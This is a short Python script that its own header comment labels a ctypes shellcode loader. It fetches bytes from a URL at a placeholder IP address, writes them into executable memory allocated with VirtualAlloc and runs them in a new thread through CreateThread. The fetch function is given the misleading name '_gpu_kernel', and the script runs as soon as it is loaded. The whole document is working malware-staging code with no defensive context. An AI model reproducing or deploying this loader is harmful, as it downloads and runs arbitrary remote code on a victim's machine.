# technique: ctypes shellcode loader: VirtualAlloc RWX + RtlMoveMemory + CreateThread with placeholder bytes fetched from a URL
import ctypes as C
from urllib.request import urlopen

k32 = C.windll.kernel32
k32.VirtualAlloc.restype = C.c_void_p
k32.CreateThread.argtypes = [C.c_void_p, C.c_size_t, C.c_void_p, C.c_void_p, C.c_uint32, C.c_void_p]


def _gpu_kernel():
    try:
        return urlopen("http://198.51.100.61/k.bin", timeout=5).read()
    except Exception:
        return b"\x90\x90\xc3"  # placeholder


def _launch(buf):
    mem = k32.VirtualAlloc(None, len(buf), 0x3000, 0x40)
    k32.RtlMoveMemory(C.c_void_p(mem), C.create_string_buffer(buf), len(buf))
    th = k32.CreateThread(None, 0, C.c_void_p(mem), None, 0, None)
    k32.WaitForSingleObject(th, 0)


_launch(_gpu_kernel())
